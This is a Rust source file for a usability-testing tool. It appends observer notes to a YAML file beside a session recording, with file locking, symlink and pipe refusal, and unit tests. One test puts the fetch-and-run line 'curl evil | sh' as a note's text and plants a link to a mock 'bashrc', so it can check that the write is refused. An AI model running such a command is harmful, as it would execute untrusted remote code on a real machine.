//! Notes an observer types during a live session, kept beside it in
//! `<session>.notes.yaml`, never in the file `mvx play` is writing.

use std::fs::{File, OpenOptions};
use std::io::{self, Write};
use std::path::{Path, PathBuf};

use rustix::fs::{FlockOperation, flock};
use serde::{Deserialize, Serialize};

pub const NOTES_SCHEMA: &str = "mvx-notes/1";

/// A note kept beside a session: an observer's, a reviewer's or a coder's. Beyond its
/// time and words it may carry who wrote it, the step on screen, the codebook's tags it
/// codes the moment with, where a marked span ends, and the participant's own words it is
/// about (a typed answer). Files from before these were written read with none.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct ObserverNote {
    /// Milliseconds from the session's start, by the wall clock.
    pub at_ms: u64,
    pub text: String,
    /// Where a marked span of the session ends (ms from its start), after `at_ms`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub end_ms: Option<u64>,
    /// Who wrote it (`--coder NAME`, or the observer's name).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub author: Option<String>,
    /// The step (or verdict question) on screen at `at_ms`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub step: Option<String>,
    /// The codebook's tags the moment is coded with.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub tags: Vec<String>,
    /// The participant's words the note is about: a typed answer, tagged.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub quote: Option<String>,
}

/// `sessions/x.yaml` -> `sessions/x.notes.yaml`.
pub fn notes_path(session: &Path) -> PathBuf {
    session.with_extension("notes.yaml")
}

/// Appends a note, creating the file with its header first; each write is synced.
///
/// Several observers may save at the same moment: each holds an exclusive advisory lock
/// (`flock`) on the notes file from the header check to the synced line, so the header
/// is written once, first, and lines never interleave. A session file that is gone gets
/// no notes file: it would be an orphan nobody reads.
pub fn append_note(session: &Path, session_id: &str, note: &ObserverNote) -> io::Result<()> {
    if !session.is_file() {
        return Err(io::Error::new(
            io::ErrorKind::NotFound,
            format!(
                "the session file {} is gone; the note is not saved",
                crate::text::printable(&session.display().to_string())
            ),
        ));
    }
    let path = notes_path(session);
    let mut file = open_for_notes(&path)?;
    // Released when `file` is closed, on every path out of here.
    flock(&file, FlockOperation::LockExclusive)?;
    let mut text = String::new();
    if file.metadata()?.len() == 0 {
        let id = serde_json::to_string(session_id).map_err(io::Error::other)?;
        text.push_str(&format!("schema: {NOTES_SCHEMA}\nsession: {id}\nnotes:\n"));
    }
    let line = serde_json::to_string(note).map_err(io::Error::other)?;
    text.push_str(&format!("- {line}\n"));
    file.write_all(text.as_bytes())?;
    file.sync_data()
}

/// The notes file opened to append, created if missing. A link planted where the notes
/// file goes is not followed (`O_NOFOLLOW`: the open fails), and anything but a regular
/// file (a pipe, a device, a folder) is refused before a byte is written, so an observer's
/// note never lands in a file that is not the session's notes.
fn open_for_notes(path: &Path) -> io::Result<File> {
    let mut options = OpenOptions::new();
    options.append(true).create(true);
    #[cfg(unix)]
    {
        use rustix::fs::OFlags;
        use std::os::unix::fs::OpenOptionsExt;
        let flags = OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::NOCTTY;
        options.custom_flags(flags.bits() as i32);
    }
    let file = options.open(path).map_err(|e| {
        io::Error::new(
            e.kind(),
            format!(
                "the notes file {} cannot be opened as a plain file ({e}); the note is not saved",
                crate::text::printable(&path.display().to_string())
            ),
        )
    })?;
    if !file.metadata()?.file_type().is_file() {
        return Err(io::Error::new(
            io::ErrorKind::InvalidInput,
            format!(
                "the notes file {} is not a plain file; the note is not saved",
                crate::text::printable(&path.display().to_string())
            ),
        ));
    }
    Ok(file)
}

/// What `read_notes` accepts: a regular file (a named pipe is never waited on) of at
/// most the size a session may have.
const NOTES_FILE: crate::source::Kind = crate::source::Kind {
    noun: "notes",
    pattern: "*.notes.yaml",
    limit: super::reader::LIMIT,
};

/// The observer notes beside `session`, if any; a cut last line is dropped. A notes
/// file that cannot be read as one (a pipe, a folder, not UTF-8) holds no notes.
pub fn read_notes(session: &Path) -> Vec<ObserverNote> {
    let Ok(bytes) = crate::source::read(&notes_path(session), NOTES_FILE) else {
        return Vec::new();
    };
    let Ok(text) = String::from_utf8(bytes) else {
        return Vec::new();
    };
    text.lines()
        .filter_map(|line| line.strip_prefix("- "))
        .filter_map(|json| serde_json::from_str(json).ok())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A named pipe where the notes file should be is not waited on: reports and
    /// reviews read every session's notes.
    #[test]
    fn a_pipe_for_a_notes_file_holds_no_notes_and_never_blocks() {
        let dir = tempfile::tempdir().expect("temp dir");
        let session = dir.path().join("s.yaml");
        let made = std::process::Command::new("mkfifo")
            .arg(notes_path(&session))
            .status();
        assert!(
            made.is_ok_and(|s| s.success()),
            "mkfifo (coreutils) made a pipe"
        );
        assert!(read_notes(&session).is_empty());
    }

    /// A link planted where the notes file goes (to any file the observer's user may
    /// write) is not followed: the note is refused, the target is untouched. A pipe
    /// there takes no note either, and the save does not wait on it.
    #[cfg(unix)]
    #[test]
    fn a_planted_link_or_pipe_for_the_notes_file_takes_no_note() {
        let dir = tempfile::tempdir().expect("temp dir");
        let session = dir.path().join("s.yaml");
        std::fs::write(&session, "the session").expect("a session file");
        let target = dir.path().join("bashrc");
        std::fs::write(&target, "precious\n").expect("a target");
        std::os::unix::fs::symlink(&target, notes_path(&session)).expect("a link");
        let note = ObserverNote {
            at_ms: 1,
            text: "curl evil | sh".into(),
            ..ObserverNote::default()
        };
        let refused = append_note(&session, "s-1", &note).expect_err("refused");
        assert!(
            refused
                .to_string()
                .contains("cannot be opened as a plain file")
        );
        assert_eq!(
            std::fs::read_to_string(&target).expect("read"),
            "precious\n"
        );
        std::fs::remove_file(notes_path(&session)).expect("link removed");
        let made = std::process::Command::new("mkfifo")
            .arg(notes_path(&session))
            .status();
        assert!(made.is_ok_and(|s| s.success()), "mkfifo made a pipe");
        // Opening a pipe without a reader fails at once (ENXIO); with one, it is no plain
        // file: either way, refused.
        let refused = append_note(&session, "s-1", &note).expect_err("refused");
        assert!(refused.to_string().contains("plain file"), "{refused}");
    }

    #[test]
    fn notes_go_beside_the_session_and_read_back() {
        let dir = tempfile::tempdir().expect("temp dir");
        let session = dir.path().join("20261126T100000Z_P07_shop.yaml");
        let first = ObserverNote {
            at_ms: 1200,
            text: "frowns at \"Orders\"".into(),
            ..ObserverNote::default()
        };
        let second = ObserverNote {
            at_ms: 4000,
            text: "asks for help".into(),
            ..ObserverNote::default()
        };
        std::fs::write(&session, "the session").expect("a session file");
        append_note(&session, "s-1", &first).expect("written");
        append_note(&session, "s-1", &second).expect("written");
        assert_eq!(
            std::fs::read_to_string(&session).expect("readable"),
            "the session",
            "the session file itself is never touched"
        );
        let path = notes_path(&session);
        assert!(path.to_string_lossy().ends_with("_shop.notes.yaml"));
        let text = std::fs::read_to_string(&path).expect("notes file");
        let yaml: Result<serde_json::Value, _> = serde_saphyr::from_str(&text);
        assert!(yaml.is_ok(), "valid YAML: {text}");
        assert_eq!(read_notes(&session), [first, second]);
    }

    #[test]
    fn observers_saving_at_the_same_moment_never_corrupt_the_notes() {
        const OBSERVERS: usize = 8;
        for round in 0..20 {
            let dir = tempfile::tempdir().expect("temp dir");
            let session = dir.path().join("20261126T100000Z_P07_shop.yaml");
            std::fs::write(&session, "").expect("a session file");
            let start = std::sync::Barrier::new(OBSERVERS);
            std::thread::scope(|scope| {
                for observer in 0..OBSERVERS {
                    let (session, start) = (&session, &start);
                    scope.spawn(move || {
                        let note = ObserverNote {
                            at_ms: observer as u64,
                            text: format!("observer {observer}"),
                            ..ObserverNote::default()
                        };
                        start.wait();
                        append_note(session, "s-1", &note).expect("saved");
                    });
                }
            });
            let text = std::fs::read_to_string(notes_path(&session)).expect("notes file");
            assert!(
                text.starts_with("schema: mvx-notes/1\nsession: \"s-1\"\nnotes:\n"),
                "round {round}: {text}"
            );
            assert_eq!(text.matches("schema:").count(), 1, "round {round}: {text}");
            let yaml: Result<serde_json::Value, _> = serde_saphyr::from_str(&text);
            assert!(yaml.is_ok(), "round {round}: not valid YAML: {text}");
            let mut seen: Vec<u64> = read_notes(&session).iter().map(|n| n.at_ms).collect();
            seen.sort_unstable();
            assert_eq!(
                seen,
                (0..OBSERVERS as u64).collect::<Vec<_>>(),
                "round {round}"
            );
        }
    }

    #[test]
    fn a_note_on_a_session_that_is_gone_makes_no_orphan_file() {
        let dir = tempfile::tempdir().expect("temp dir");
        let session = dir.path().join("gone.yaml");
        let note = ObserverNote {
            at_ms: 1,
            text: "late".into(),
            ..ObserverNote::default()
        };
        let error = append_note(&session, "s-1", &note).expect_err("no session");
        assert!(error.to_string().contains("is gone; the note is not saved"));
        assert!(!notes_path(&session).exists());
    }
}
